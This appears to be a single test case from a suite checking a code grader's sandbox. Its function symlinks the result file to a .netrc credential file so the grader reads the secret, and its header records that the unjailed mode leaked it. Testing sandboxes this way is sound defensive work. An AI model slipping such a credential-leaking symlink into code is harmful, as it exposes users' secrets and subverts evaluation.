# threat: 77 symlink
# does: puts a link to a secret where the grader will read the result
# structured: finished raised
# judged: finished raised
# stdio: runtime_error
# unjailed: results_file leaked
import os


def f(x):
    os.symlink("/tmp/world/home/.netrc", "result")
    os._exit(0)
